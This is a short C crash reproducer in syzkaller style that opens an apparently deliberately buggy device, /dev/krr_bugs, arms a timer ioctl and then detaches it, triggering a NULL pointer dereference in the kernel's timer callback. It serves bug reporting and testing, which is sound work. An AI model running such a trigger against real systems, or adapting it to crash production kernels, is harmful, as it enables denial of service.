// NULL pointer dereference in watch_timer_fn: KRR_WATCH_DETACH leaves the
// timer armed (written the way syzkaller writes C reproducers)

#define _GNU_SOURCE

#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void sleep_ms(uint64_t ms) {
    struct timespec ts = {(time_t)(ms / 1000), (long)(ms % 1000 * 1000000)};
    syscall(__NR_nanosleep, &ts, 0);
}

uint64_t r[1] = {0xffffffffffffffff};

int main(void) {
    syscall(__NR_mmap, 0x1ffff000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x20000000ul, 0x1000000ul, 7ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x21000000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    intptr_t res = 0;
    memcpy((void*)0x20000000, "/dev/krr_bugs\000", 14);
    res = syscall(__NR_openat, 0xffffffffffffff9cul, 0x20000000ul, 2ul, 0ul);
    if (res != -1)
        r[0] = res;
    // KRR_WATCH_START: every 10 ms
    syscall(__NR_ioctl, r[0], 0x4b30ul, 0xaul);
    // KRR_WATCH_DETACH
    syscall(__NR_ioctl, r[0], 0x4b31ul, 0ul);
    sleep_ms(100);
    return 0;
}
